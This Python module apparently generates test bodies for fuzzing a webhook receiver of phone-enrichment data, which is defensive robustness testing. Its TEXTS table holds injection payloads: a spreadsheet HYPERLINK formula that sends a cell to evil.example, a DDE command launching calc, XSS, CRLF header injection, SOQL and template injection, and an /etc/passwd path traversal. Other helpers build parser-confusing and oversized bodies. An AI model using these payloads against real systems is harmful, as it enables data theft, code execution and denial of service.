"""Bodies that nobody should send to the receiver, and that somebody will (design/reliability.md 3.2, point 5).

They are made from valid deliveries with a valid person id, so that they reach the lines that read a number: what is
random from the beginning is refused at the first of them.
"""

from __future__ import annotations

import copy
import gzip
import json
from collections.abc import Iterator
from typing import Any

#: What stands in the place of each value in turn.
OTHERS: dict[str, Any] = {
    "null": None,
    "true": True,
    "zero": 0,
    "negative": -1,
    "float": 1.5,
    "64 bits and more": 2**70,
    "empty text": "",
    "text": "text",
    "empty list": [],
    "list": [{"id": "x"}, None, 7, "x"],
    "empty object": {},
    "object": {"raw_number": {"a": ["+15125550177"]}, "id": ["x"]},
}

#: What stands in the place of every text at once.
TEXTS: dict[str, str] = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "+15125550177|' /C calc'!A0",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "ansi": "\x1b[2J\x1b[31m+15125550177\x1b]8;;http://evil.example\x07",
    "crlf": "+15125550177\r\nSet-Cookie: a=b\r\n\r\n",
    "nul": "+15125550177\x00",
    "del and c1": "\x7f\x85\x9b+1 512 555 0177",
    "right to left": "\u202e7710 555 215 1+\u202c",
    "zero width": "+1\u200b512\u200d555\ufeff0177",
    "full width": "＋１５１２５５５０１７７",
    "astral": "\U0001f4de\U0010ffff+15125550177",
    "combining": "+15125550177" + "\u0301" * 50,
    "soql": "' OR Name != '",
    "template": "{{ 7*7 }}${7*7}%s%n{0}",
    "markup": "[red]+15125550177[/red]",
    "path": "../../../../etc/passwd",
    "many digits": "+" + "1" * 300,
    "200 kB": "+15125550177 " * 16_000,
    "200 kB of digits": "1" * 200_000,
    "200 kB of spaces": " " * 200_000 + "+15125550177",
    "letters of a keypad": "1-800-FLOWERS",
    "premium": "+19005550199",
}


def native(person_id: str) -> dict[str, Any]:
    return {
        "status": "success",
        "total_requested_enrichments": 1,
        "unique_enriched_records": 1,
        "missing_records": 0,
        "credits_consumed": 8,
        "people": [
            {
                "id": person_id,
                "status": "success",
                "phone_numbers": [
                    {
                        "_id": "00000000000000000064dbe1",
                        "confidence_cd": "high",
                        "created_at": None,
                        "direct_dial_source_cd": "contact_trusted",
                        "dnc_other_info": {"country": "United States"},
                        "dnc_status_cd": "not_found",
                        "dnc_status_updated_at": "2026-08-15T20:57:53.108+00:00",
                        "position": 0,
                        "raw_number": "(512) 555-0177",
                        "sanitized_number": "+15125550177",
                        "status_cd": "valid_number",
                        "type_cd": "mobile",
                        "updated_at": None,
                        "id": "00000000000000000064dbe1",
                        "key": "00000000000000000064dbe1",
                    }
                ],
            }
        ],
    }


def waterfall(person_id: str) -> dict[str, Any]:
    number = native(person_id)["people"][0]["phone_numbers"][0]
    vendors = [{"id": "v-1", "name": "V", "status": "UNVERIFIED", "phone_numbers": ["512-555-0199"]}]
    return {
        "status": "success",
        "target_fields": ["emails", "phone_numbers"],
        "records_enriched": 1,
        "credits_consumed": 0,
        "request_id": "-6120457783914420518",
        "request_initiated": "2026-10-08T08:05:49Z",
        "people": [
            {
                "id": person_id,
                "waterfall": {"emails": [], "phone_numbers": [{"vendors": vendors}]},
                "phone_numbers": [{**number, "type_cd": None, "dnc_status_cd": None, "dnc_other_info": {}}],
                "emails": [],
            }
        ],
    }


def envelope(person_id: str) -> dict[str, Any]:
    return {
        "request_id": "-6120457783914420518",
        "webhook_status": "success",
        "request_type": "phone",
        "last_dispatched_at": "2026-10-09T10:42:11Z",
        "failure_reason": None,
        "webhook_result": native(person_id),
    }


SHAPES = {"native": native, "waterfall": waterfall, "envelope": envelope}


def corpus(valid_person_id: str) -> dict[str, bytes]:
    """Name -> body; the same each time."""
    bodies: dict[str, bytes] = {}
    for shape, make in SHAPES.items():
        tree = make(valid_person_id)
        for path in paths(tree):
            where = ".".join(map(str, path)) or "the whole"
            for word, other in OTHERS.items():
                bodies[f"{shape}: {where} is {word}"] = _json(put(tree, path, other))
        for word, text in TEXTS.items():
            bodies[f"{shape}: {word} in every text but the id"] = _json(_with_texts(tree, text, valid_person_id))
            bodies[f"{shape}: {word} in every text"] = _json(_with_texts(tree, text, ""))
    bodies.update(_broken(valid_person_id))
    bodies.update(_large(valid_person_id))
    return bodies


def _broken(person_id: str) -> dict[str, bytes]:
    """What is no JSON, or is JSON that parsers disagree about."""
    whole = _json(native(person_id))
    number = b'"position": 0'
    text = whole.decode()
    bodies = {
        "empty": b"",
        "spaces": b" \r\n\t",
        "nul": b"\x00",
        "web page": b"<!doctype html><title>502</title>",
        "form": b"people=1&id=" + person_id.encode(),
        "utf-8 with a byte order mark": b"\xef\xbb\xbf" + whole,
        "two byte order marks": b"\xef\xbb\xbf\xef\xbb\xbf" + whole,
        "utf-16": text.encode("utf-16"),
        "utf-16 without a mark": text.encode("utf-16-le"),
        "utf-32": text.encode("utf-32"),
        "utf-7": text.encode("utf-7"),
        "latin-1": text.replace("United States", "Curaçao").encode("latin-1"),
        "overlong utf-8": whole.replace(b"mobile", b"mob\xc0\xafile"),
        "a surrogate as utf-8": whole.replace(b"mobile", b"\xed\xa0\x80"),
        "gzip": gzip.compress(whole, mtime=0),
        "gzip of a megabyte": gzip.compress(b" " * 1_000_000 + whole, mtime=0),
        "two documents": whole + whole,
        "something behind": whole + b"x",
        "trailing comma": whole[:-1] + b",}",
        "single quotes": whole.replace(b'"', b"'"),
        "comment": b"/* hello */" + whole,
        "json with padding": b"callback(" + whole + b")",
        "lone high surrogate": whole.replace(b'"mobile"', b'"\\ud800"'),
        "lone low surrogate": whole.replace(b'"mobile"', b'"\\udc00"'),
        "surrogates the wrong way round": whole.replace(b'"mobile"', b'"\\udc00\\ud800"'),
        "nul as an escape in the id": whole.replace(person_id.encode(), person_id.encode() + b"\\u0000"),
        "a raw control character": whole.replace(b"mobile", b"mob\x01ile"),
        "a key twice": whole.replace(b'"people"', b'"people": 1, "people"'),
        "the id twice": whole.replace(b'"id"', b'"id": {"a": 1}, "id"', 1),
        "the people twice": whole[:-1] + b', "people": [{"id": []}]}',
        "the do-not-call word twice": whole.replace(b'"dnc_status_cd"', b'"dnc_status_cd": "found", "dnc_status_cd"'),
        "a million nested lists": b"[" * 1_000_000,
        "nested lists, closed": b"[" * 100_000 + b"]" * 100_000,
        "nested objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "request id that is a float": b'{"request_id": -61204577839144205181234.0, "people": []}',
        "request id of more than 64 bits": b'{"request_id": -61204577839144205181234, "people": []}',
        "request id of more than 64 bits and depth": b'{"request_id": 61204577839144205181234, "people": [], "a": %s}'
        % (b"[" * 1_000 + b"]" * 1_000),
        "request id of more than 64 bits beside one without end": (
            b'{"request_id": 61204577839144205181234, "people": [{"id": "x", "a": [1%s.5e-400]}]}' % (b"0" * 300)
        ),
    }
    for word, literal in {
        "nan": b"NaN",
        "infinity": b"Infinity",
        "minus infinity": b"-Infinity",
        "1e999": b"1e999",
        "1e-999": b"1e-999",
        "5,000 digits": b"9" * 5_000,
        "300 digits": b"9" * 300,
        "minus zero": b"-0",
        "leading zero": b"007",
        "plus": b"+7",
        "hex": b"0x10",
        "undefined": b"undefined",
        "900 nested lists": b"[" * 900 + b"]" * 900,
        "2,000 nested lists": b"[" * 2_000 + b"]" * 2_000,
    }.items():
        bodies[f"{word} as a position"] = whole.replace(number, b'"position": ' + literal)
        bodies[f"{word} as the credits"] = whole.replace(b'"credits_consumed": 8', b'"credits_consumed": ' + literal)
        bodies[f"{word} as a number"] = whole.replace(b'"(512) 555-0177"', literal)
        bodies[f"{word} as the do-not-call word"] = whole.replace(b'"not_found"', literal)
    for told in ("1e999999999", "-8", "NaN", "Infinity", "sNaN", "0e-999999999", "8" * 1_000, "1_000", "８", "8,5"):
        written = json.dumps(told[:20])
        bodies[f"credits as the text {written}"] = _json({**native(person_id), "credits_consumed": told})
    for share in range(1, 10):
        bodies[f"cut off after {share} tenths"] = whole[: len(whole) * share // 10]
    return bodies


def _large(person_id: str) -> dict[str, bytes]:
    """Too much of everything."""
    tree = native(person_id)
    person = tree["people"][0]
    number = person["phone_numbers"][0]
    crowd = [{**person, "id": f"{n:024x}"} for n in range(10_000)]
    many = [{**number, "position": n, "sanitized_number": f"+1512555{n % 10_000:04}"} for n in range(10_000)]
    return {
        "10,000 people": _json({**tree, "people": [*crowd, person]}),
        "10,000 times the same person": _json({**tree, "people": [person] * 10_000}),
        "10,000 people who are null": _json({**tree, "people": [None] * 10_000 + [person]}),
        "10,000 numbers": _json({**tree, "people": [{**person, "phone_numbers": many}]}),
        "100,000 numbers that are nothing": _json({**tree, "people": [{**person, "phone_numbers": [0] * 100_000}]}),
        "10,000 keys": _json({**{f"k{n}": n for n in range(10_000)}, **tree}),
        "foreign people": _json({**tree, "people": crowd[:5]}),
        "foreign people beside the right one": _json({**tree, "people": [*crowd[:5], person]}),
        "an id of 200 kB": _json({**tree, "people": [{**person, "id": "a" * 200_000}, person]}),
        "an id of spaces": _json({**tree, "people": [{**person, "id": "   "}, person]}),
        "the right id in capitals": _json({**tree, "people": [{**person, "id": person_id.upper() + "F"}]}),
        "no people": _json({**tree, "people": []}),
        "an envelope in an envelope": _json({**envelope(person_id), "webhook_result": envelope(person_id)}),
        "an envelope without its result": _json({**envelope(person_id), "webhook_result": None}),
        "people beside an envelope": _json({**envelope(person_id), "people": tree["people"]}),
        "a request id of 200 kB": _json({**waterfall(person_id), "request_id": "1" * 200_000}),
    }


# --- trees --------------------------------------------------------------------------------------------------------


def paths(tree: Any, at: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Of every leaf and every container, the whole first."""
    yield at
    if isinstance(tree, dict | list):
        for key, value in tree.items() if isinstance(tree, dict) else enumerate(tree):
            yield from paths(value, (*at, key))


def put(tree: Any, path: tuple[str | int, ...], value: Any) -> Any:
    """A copy with `value` in that place."""
    if not path:
        return value
    changed = copy.deepcopy(tree)
    place = changed
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    return changed


def _with_texts(tree: Any, text: str, kept: str) -> Any:
    if isinstance(tree, dict):
        return {key: _with_texts(value, text, kept) for key, value in tree.items()}
    if isinstance(tree, list):
        return [_with_texts(value, text, kept) for value in tree]
    return text if isinstance(tree, str) and tree != kept else tree


def _json(tree: Any) -> bytes:
    return json.dumps(tree, ensure_ascii=False).encode("utf-8", "surrogatepass")
